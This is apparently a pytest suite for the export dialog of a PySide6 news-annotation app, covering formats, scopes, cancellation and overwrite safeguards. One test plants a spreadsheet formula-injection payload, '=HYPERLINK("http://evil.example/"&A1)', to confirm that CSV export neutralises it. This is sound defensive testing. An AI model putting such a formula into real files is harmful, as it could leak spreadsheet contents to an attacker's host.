"""File > Export...: every format from the dialog, scopes, Cancel, and no silent overwrite."""

from __future__ import annotations

import html
import json
import re
import threading
from pathlib import Path

import pytest
from PySide6.QtWidgets import QMessageBox

from framedesk.core.exchange.registry import EXPORTERS, load_all
from framedesk.ui import export_dialog_work
from framedesk.ui.export_dialog import ALL, FILTERED, SELECTED, ExportDialog

load_all()
EXPORT_PART = "framedesk.ui.export_dialog:install_export"
# Phrases only one article each has: an export "has" an article when its phrase is in it.
PHRASES = {"Kyiv to negotiate": "Joe Biden said Kyiv needs aid",
           "Budget talks": "Parliament in Berlin debated the budget",
           "Floods hit Lagos": "the governor blamed drains"}


@pytest.fixture
def news_window(news_window):
    """The window with the export part plugged in as the app does it."""
    from framedesk.ui.main_window import install_parts

    assert install_parts(news_window, (EXPORT_PART,)) == [EXPORT_PART]
    return news_window


def open_export(window) -> ExportDialog:
    window.actions_by_name["export"].trigger()
    dialog = window.export.dialog
    assert dialog is not None and dialog.isVisible()
    return dialog


def export_now(qtbot, dialog: ExportDialog, fmt: str, out: Path, scope: str = ALL) -> str:
    dialog.set_format(fmt)
    dialog.target.setText(str(out))
    dialog.scopes[scope].setChecked(True)
    dialog.export_button.click()
    qtbot.waitUntil(lambda: not dialog.running, timeout=20000)
    return dialog.result.text()


def exported_text(out: Path) -> str:
    """Everything a format wrote, as text (a spaCy DocBin is read back with spaCy)."""
    if out.suffix == ".spacy":
        import spacy
        from spacy.tokens import DocBin

        docs = DocBin().from_disk(out).get_docs(spacy.blank("en").vocab)
        return "\n".join(doc.text for doc in docs)
    files = sorted(out.rglob("*")) if out.is_dir() else [out]
    texts = [f.read_text(encoding="utf-8-sig") for f in files if f.is_file()]
    if out.suffix == ".html":   # highlights split the phrases: read it as a browser shows it
        texts = [html.unescape(re.sub(r"<[^>]+>", "", t)) for t in texts]
    return "\n".join(texts)


def temporary_files(folder: Path) -> list[str]:
    """What an interrupted export would leave beside its target."""
    return [p.name for p in folder.iterdir() if p.name.endswith(".part") or ".old-" in p.name]


def articles_in(text: str) -> set[str]:
    return {title for title, phrase in PHRASES.items() if phrase in text}


def test_the_file_menu_offers_export_with_ctrl_e(news_window) -> None:
    from framedesk.ui.main_window import WINDOW_PARTS

    assert EXPORT_PART in WINDOW_PARTS
    action = news_window.actions_by_name["export"]
    assert action in news_window.menus["File"].actions()
    assert action.shortcut().toString() == "Ctrl+E"
    assert action.isEnabled()
    news_window.project_actions.close_project()
    assert not action.isEnabled()


@pytest.mark.parametrize("fmt", sorted(EXPORTERS))
def test_every_format_exports_every_article_from_the_dialog(news_window, qtbot, tmp_path,
                                                           fmt) -> None:
    dialog = open_export(news_window)
    suffix = EXPORTERS[fmt].suffix
    out = tmp_path / f"out-{fmt}{suffix}"
    sentence = export_now(qtbot, dialog, fmt, out)
    assert out.exists() and (out.is_dir() == (suffix == ""))
    assert sentence.startswith("Exported ") and str(out) in sentence
    assert articles_in(exported_text(out)) == set(PHRASES)
    assert dialog.open_folder_button.isVisible()
    assert dialog.folder_to_open() == (out if out.is_dir() else out.parent)
    assert temporary_files(tmp_path) == []


def test_the_default_target_sits_beside_the_project(news_window, news_path) -> None:
    dialog = open_export(news_window)
    dialog.set_format("jsonl")
    assert Path(dialog.target.text()) == news_path.with_suffix(".jsonl")
    dialog.set_format("brat")
    assert Path(dialog.target.text()) == news_path.parent / "news-brat"
    dialog.target.setText("/somewhere/else/mine.jsonl")
    dialog.target.textEdited.emit("/somewhere/else/mine.jsonl")
    dialog.set_format("doccano")
    assert dialog.target.text() == "/somewhere/else/mine.jsonl"   # the user's choice stays


def test_the_current_filter_exports_what_the_list_shows(news_window, qtbot, tmp_path) -> None:
    news_window.article_list.search.setText("Berlin")
    news_window.article_list.apply_filter()
    qtbot.waitUntil(lambda: news_window.article_list.model.rowCount() == 1
                    and not news_window.article_list.pending)
    dialog = open_export(news_window)
    assert "(1)" in dialog.scopes[FILTERED].text()
    out = tmp_path / "filtered.jsonl"
    export_now(qtbot, dialog, "jsonl", out, FILTERED)
    assert articles_in(out.read_text(encoding="utf-8")) == {"Budget talks"}
    assert len(out.read_text(encoding="utf-8").splitlines()) == 1


def test_the_counts_follow_the_list_while_the_dialog_is_open(news_window, qtbot) -> None:
    dialog = open_export(news_window)
    assert "(3)" in dialog.scopes[FILTERED].text()
    news_window.article_list.search.setText("Lagos")
    news_window.article_list.apply_filter()
    qtbot.waitUntil(lambda: "(1)" in dialog.scopes[FILTERED].text())
    assert "(3)" in dialog.scopes[ALL].text()


def test_selected_articles_and_the_status_filter(news_window, qtbot, tmp_path) -> None:
    ids = news_window.article_list.model.ids()
    floods = ids[2]
    assert news_window.article_list.select_article(floods)
    dialog = open_export(news_window)
    assert "(1)" in dialog.scopes[SELECTED].text()
    out = tmp_path / "selected.jsonl"
    export_now(qtbot, dialog, "jsonl", out, SELECTED)
    assert articles_in(out.read_text(encoding="utf-8")) == {"Floods hit Lagos"}

    with news_window.project.atomic():
        news_window.project.articles.set_status(ids[0], "done")
    dialog.statuses["done"].setChecked(True)
    out = tmp_path / "done.jsonl"
    export_now(qtbot, dialog, "jsonl", out, ALL)
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [r["meta"]["status"] for r in records] == ["done"]
    assert articles_in(out.read_text(encoding="utf-8")) == {"Kyiv to negotiate"}


def test_an_existing_file_is_replaced_only_after_asking(news_window, qtbot, tmp_path) -> None:
    out = tmp_path / "mine.jsonl"
    out.write_text("keep me\n", encoding="utf-8")
    dialog = open_export(news_window)
    dialog.set_format("jsonl")
    dialog.target.setText(str(out))
    dialog.export_button.click()
    box = dialog.replace_box
    assert box is not None and box.isVisible() and str(out) in box.text()
    box.button(QMessageBox.StandardButton.Cancel).click()
    qtbot.wait(50)
    assert out.read_text(encoding="utf-8") == "keep me\n"
    assert not dialog.running

    dialog.export_button.click()
    box = dialog.replace_box
    replace = next(b for b in box.buttons() if b.text() == "Replace")
    replace.click()
    qtbot.waitUntil(lambda: not dialog.running and dialog.result.text() != "", timeout=20000)
    assert articles_in(out.read_text(encoding="utf-8")) == set(PHRASES)


def test_cancel_leaves_no_file(news_window, qtbot, tmp_path, monkeypatch) -> None:
    # Hold the worker at its start so Cancel surely comes before the first record.
    gate = threading.Event()
    real_open = export_dialog_work.open_source

    def held_open(path: Path):
        gate.wait(10)
        return real_open(path)

    monkeypatch.setattr(export_dialog_work, "open_source", held_open)
    dialog = open_export(news_window)
    out = tmp_path / "cancelled.jsonl"
    dialog.set_format("jsonl")
    dialog.target.setText(str(out))
    dialog.export_button.click()
    assert dialog.running and dialog.cancel_button.text() == "Cancel"
    assert not dialog.export_button.isEnabled()
    dialog.cancel_button.click()
    gate.set()
    qtbot.waitUntil(lambda: not dialog.running, timeout=20000)
    assert "cancelled" in dialog.result.text().lower()
    assert list(tmp_path.glob("cancelled*")) == []
    assert temporary_files(tmp_path) == []
    assert dialog.isVisible()          # Cancel stopped the export, not the dialog


def test_an_unwritable_target_is_one_sentence(news_window, qtbot, tmp_path) -> None:
    dialog = open_export(news_window)
    out = tmp_path / "no-such-folder" / "x.jsonl"
    sentence = export_now(qtbot, dialog, "jsonl", out)
    assert sentence.startswith(f"Could not write {out}")
    assert "Traceback" not in sentence and "\n" not in sentence


def test_spreadsheet_safe_csv_is_a_remembered_choice(news_window, qtbot, tmp_path) -> None:
    import csv

    project = news_window.project
    with project.atomic() as db:
        db.execute("UPDATE articles SET title = ? WHERE title = ?",
                   ['=HYPERLINK("http://evil.example/"&A1)', "Budget talks"])
    dialog = open_export(news_window)
    box = dialog.spreadsheet_safe
    dialog.set_format("jsonl")
    assert not box.isVisibleTo(dialog)
    dialog.set_format("csv")
    assert box.isVisibleTo(dialog) and box.isChecked()
    assert "formula" in box.toolTip()

    def titles(out: Path) -> set[str]:
        with out.open(encoding="utf-8-sig", newline="") as fh:
            return {row["title"] for row in csv.DictReader(fh)}

    export_now(qtbot, dialog, "csv", tmp_path / "safe.csv")
    assert "'=HYPERLINK(\"http://evil.example/\"&A1)" in titles(tmp_path / "safe.csv")
    box.setChecked(False)
    export_now(qtbot, dialog, "csv", tmp_path / "raw.csv")
    assert "=HYPERLINK(\"http://evil.example/\"&A1)" in titles(tmp_path / "raw.csv")

    from framedesk.ui.export_dialog import SPREADSHEET_SAFE_KEY
    from framedesk.ui.settings import AppSettings

    news_window.settings.sync()                # the INI file a later session reads
    news_window.settings = AppSettings.at(tmp_path / "appsettings")
    assert news_window.settings.value(SPREADSHEET_SAFE_KEY) in (False, "false")
    again = ExportDialog(news_window)
    assert not again.spreadsheet_safe.isChecked()
    again.deleteLater()


def test_a_chosen_path_follows_the_format_and_a_file_is_never_replaced_by_a_folder(
        news_window, qtbot, tmp_path) -> None:
    """JSONL to CSV with a path the user typed: the ending follows the format (a folder
    for CSV), so Export + Replace can no longer turn demo.jsonl into a folder."""
    mine = tmp_path / "demo.jsonl"
    mine.write_text("keep me\n", encoding="utf-8")
    dialog = open_export(news_window)
    dialog.set_format("jsonl")
    dialog.target.clear()
    qtbot.keyClicks(dialog.target, str(mine))          # typed: the user's own path
    dialog.set_format("csv")
    assert dialog.target.text() == str(tmp_path / "demo-csv")
    dialog.set_format("html")
    assert dialog.target.text() == str(tmp_path / "demo-csv.html")
    dialog.set_format("jsonl")
    assert dialog.target.text() == str(tmp_path / "demo-csv.jsonl")

    # A path whose ending the user chose for a reason of their own is kept; a folder
    # format aimed at an existing file gets one sentence and the file stays.
    dialog.set_format("csv")
    dialog.target.setText(str(mine))
    dialog.export_button.click()
    assert dialog.replace_box is None or not dialog.replace_box.isVisible()
    sentence = dialog.result.text()
    assert "is a file and this format writes a folder" in sentence and "\n" not in sentence
    assert mine.read_text(encoding="utf-8") == "keep me\n"


def test_a_folder_is_never_replaced_by_a_file(news_window, qtbot, tmp_path) -> None:
    folder = tmp_path / "demo.jsonl"
    folder.mkdir()
    (folder / "inside.txt").write_text("keep me", encoding="utf-8")
    dialog = open_export(news_window)
    sentence = export_now(qtbot, dialog, "jsonl", folder)
    assert "is a folder" in sentence
    assert (folder / "inside.txt").read_text(encoding="utf-8") == "keep me"
